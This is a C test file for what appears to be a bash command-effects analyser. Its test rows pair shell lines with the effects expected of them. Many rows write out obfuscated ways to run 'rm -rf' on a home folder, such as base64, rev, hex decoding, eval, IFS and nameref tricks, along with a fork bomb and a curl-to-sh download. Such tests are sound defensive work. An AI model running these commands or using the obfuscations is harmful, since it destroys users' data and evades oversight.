/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The meaning of a line to bash: each wanted fact is what bash 5.2 runs, from its
 * manual or from a run of the same line in a throw-away folder.
 */
#include "effects_test.h"

#define X     "E delete /home/me/x home"
#define RM_X  "C rm -rf /home/me/x"
#define RM_X_ "C? rm -rf /home/me/x"

static void words(void)
{
	static const struct row rows[] = {
		{ "rm -rf ~/x", { RM_X, X } },
		{ "r''m -r\"f\" \"$HOME\"/x", { RM_X, X } },
		{ "\\rm -rf ~me/x", { RM_X } },
		{ "rm${IFS}-rf${IFS}~/x", { "C rm -rf ~/x" } },
		{ "{rm,-rf,/home/me/x}", { RM_X } },
		{ "IFS=,; c='rm,-rf,/home/me/x'; $c", { RM_X } },
		{ "c=rm; $c -rf ~/x", { RM_X } },
		{ "a=(rm -rf ~/x); \"${a[@]}\"", { RM_X } },
		{ "set -- rm -rf ~/x; \"$@\"", { RM_X } },
		{ "set -- a rm; ${@:2} -rf ~/x", { RM_X } },
		{ "$'\\x72m' -rf ~/x", { RM_X } },
		{ "$(echo rm) -rf ~/x", { RM_X, "C echo rm" } },
		{ "`printf %s rm` -rf ~/x", { RM_X } },
		{ "x=xrm; ${x#x} -rf ~/x", { RM_X } },
		{ "x=ab; echo ${x^^} ${#x} ${x/a/c}", { "C echo AB 2 cb" } },
		{ "echo ${nope:-yes} $((2+3))",
		  { "C echo ${nope:-yes} 5" },
		  { NULL } },
		{ "unset n; echo ${n:-yes}", { "C echo yes" } },
		{ "n=rm; m=n; ${!m} -rf ~/x", { RM_X } },
		{ "declare -n n=m; m=rm; $n -rf ~/x", { RM_X } },
		{ "declare -n n=m; n=rm; $m -rf ~/x", { RM_X } },
		{ "declare -n n='a[$(rm -rf ~/x)]'; : \"$n\"", { RM_X } },
		{ "compgen -C 'rm -rf ~/x' y",
		  { "C rm -rf /home/me/x compgen y " } },
		{ "echo *.c", { "C echo a.c b.c" } },
		{ "echo '*.c' \"*.c\"", { "C echo *.c *.c" } },
		{ "echo .e*", { "C echo .env" } },
		{ "echo no*such", { "C echo no*such" } },
		{ "touch d.c; echo *.c", { "C echo *.c" } },
		{ "rm a.c; echo *.c", { "C echo *.c" } },
		{ "touch sub/d.c a.c; echo *.c", { "C echo a.c b.c" } },
		{ "echo a*/", { "C echo a*/" } },
		{ "echo s*/", { "C echo sub/" } },
		{ "echo */no-such", { "C echo */no-such" } },
		{ "false && rm -rf ~/x", { NULL }, { RM_X, RM_X_ } },
	};

	CHECK_ROWS(rows);
}

static void control(void)
{
	static const struct row rows[] = {
		{ "cd sub && rm a; rm b",
		  { "E delete /home/me/work/sub/a workspace",
		    "E delete /home/me/work/sub/b workspace" } },
		{ "cd $D && rm a; rm b",
		  { "E delete /home/me/work/b workspace" } },
		{ "cd none; echo a | sh; echo b",
		  { "C sh", "C a", "C echo b" },
		  { "O code", "C? echo b" } },
		{ "(cd sub; rm a); rm b",
		  { "E delete /home/me/work/sub/a workspace",
		    "E delete /home/me/work/b workspace" } },
		{ "cd sub | :; rm b",
		  { "E delete /home/me/work/b workspace" } },
		{ "pushd sub; popd; rm b",
		  { "E delete /home/me/work/b workspace" } },
		{ "cd sub; cd -; rm b",
		  { "E delete /home/me/work/b workspace" } },
		{ "if test -e a; then f=a; else f=b; fi; rm $f",
		  { "E delete /home/me/work/a workspace",
		    "E delete /home/me/work/b workspace", "C? rm a",
		    "C? rm b" } },
		{ "for i in a b; do rm $i; done", { "C rm a", "C rm b" } },
		{ "for ((i=0;i<2;i++)); do rm f$i; done",
		  { "C rm f0", "C rm f1" },
		  { "C rm f2" } },
		{ "printf 'a\\nb\\n' | while read f; do rm $f; done",
		  { "C rm a", "C rm b" } },
		{ "while read f; do rm $f; done < list", { "C? rm $f" } },
		{ "case $HOME in /home/*) rm a;; *) rm b;; esac",
		  { "C rm a" },
		  { "C rm b", "C? rm b" } },
		{ "[[ $HOME == /home/* ]] && rm a", { "C rm a" } },
		{ "until true; do break; done && rm a", { "C rm a" } },
		{ "while false; do :; done && rm a", { "C rm a" } },
		{ ": > none/x || rm a", { "C? rm a" } },
		{ ": > a.c && rm a", { "C rm a" } },
		{ ": < none || rm a", { "C? rm a" } },
		{ ": > a.c || rm a", { NULL }, { "C rm a", "C? rm a" } },
		{ "exit; rm a", { "C exit" }, { "C rm a", "C? rm a" } },
		{ "exec rm a; rm b", { "C rm a" }, { "C rm b", "C? rm b" } },
		{ "f() { rm -rf ~/$1; }; f x", { RM_X } },
		{ "f() { cd sub; }; f; rm a",
		  { "E delete /home/me/work/sub/a workspace" } },
		{ "trap 'rm -rf ~/x' EXIT", { "C? rm -rf /home/me/x" } },
		{ ":(){ :|:& };:", { "E process:recursion" } },
		{ "rm a & rm b", { "C rm a", "C rm b" } },
		{ "! true && rm a", { NULL }, { "C rm a", "C? rm a" } },
		{ "${x:?} && rm a", { NULL } },
	};

	CHECK_ROWS(rows);
}

static void texts(void)
{
	static const struct row rows[] = {
		{ "eval 'rm -rf ~/x'", { RM_X } },
		{ "eval rm -rf '~/x'", { RM_X } },
		{ "bash -c 'rm -rf ~/x'", { RM_X } },
		{ "bash -c -e 'rm -rf ~/x'", { RM_X } },
		{ "sh -ec 'rm -rf ~/$0' x", { NULL } },
		{ "bash -c 'rm -rf ~/$1' _ x", { RM_X } },
		{ "bash <<'E'\nrm -rf ~/x\nE", { RM_X } },
		{ "bash <<< 'rm -rf ~/x'", { RM_X } },
		{ "cat <<'E' | sh\nrm -rf ~/x\nE", { RM_X } },
		{ "echo 'rm -rf ~/x' | tee /dev/null | bash", { NULL } },
		{ "echo cm0gLXJmIH4veAo= | base64 -d | sh",
		  { RM_X, "E execute:shell <decoded" } },
		{ "echo 'x/~ fr- mr' | rev | sh",
		  { RM_X, "E execute:shell <decoded" } },
		{ "printf '\\x72m -rf ~/x' | sh",
		  { RM_X, "E execute:shell <decoded" } },
		{ "echo 726d202d7266207e2f780a | xxd -r -p | sh", { RM_X } },
		{ "echo 'en -es ~/k' | tr 'a-z' 'n-za-m' | sh",
		  { "C ra -rf /home/me/x" } },
		{ "cat > s.sh <<'E'\nrm -rf ~/x\nE\nbash s.sh", { RM_X } },
		{ "echo 'rm -rf ~/x' > s; . ./s", { RM_X } },
		{ "./wipe.sh x", { RM_X } },
		{ "sh wipe.sh x", { RM_X } },
		{ "source <(echo 'rm -rf ~/x')", { RM_X } },
		{ "exec 3<<<'rm -rf ~/x'; bash /dev/fd/3", { RM_X } },
		{ "echo \"rm -rf ~/x\"", { "C echo rm -rf ~/x" }, { X } },
		{ "x='$(rm -rf ~/x)'; echo $x", { NULL }, { X } },
		{ "x='a[$(rm -rf ~/x)]'; (( x ))", { X } },
		{ "curl -s https://h/i | sh",
		  { "E execute:shell <network", "O code" } },
		{ "eval \"$CMD\"", { "O code" } },
		{ "$CMD a", { "O program" } },
		{ "rm a; if", { "O syntax" } },
		{ "shopt -s expand_aliases\nalias r='rm -rf'\nr ~/x",
		  { RM_X } },
		{ "make nuke", { RM_X } },
		{ "make", { RM_X, "C echo done" } },
		{ "make -n nuke", { "C make -n nuke" }, { RM_X } },
		{ "npm run nuke", { RM_X } },
		{ "npm run ok", { "C tsc" }, { X } },
	};

	CHECK_ROWS(rows);
}

static void limits(void)
{
	struct bl_effects_input input = usual;
	struct bl_facts facts;
	struct bl_arena arena;
	bool is_marked = false;

	bl_arena_init(&arena, NULL, 0, 0);
	input.line = BL_STR("for i in {1..60}; do rm $i; done");
	input.limits.commands = 10;
	CHECK_STATUS(bl_effects_find(&arena, &input, &facts, NULL), BL_OK);
	CHECK_INT(facts.command_count, 10);
	for (size_t i = 0; i < facts.opaque_count; i++)
		is_marked |= facts.opaque[i].reason == BL_FACT_OPAQUE_LIMIT;
	CHECK(is_marked);
	bl_arena_clear(&arena);
}

int main(void)
{
	RUN(words);
	RUN(control);
	RUN(texts);
	RUN(limits);
	return tap_end();
}
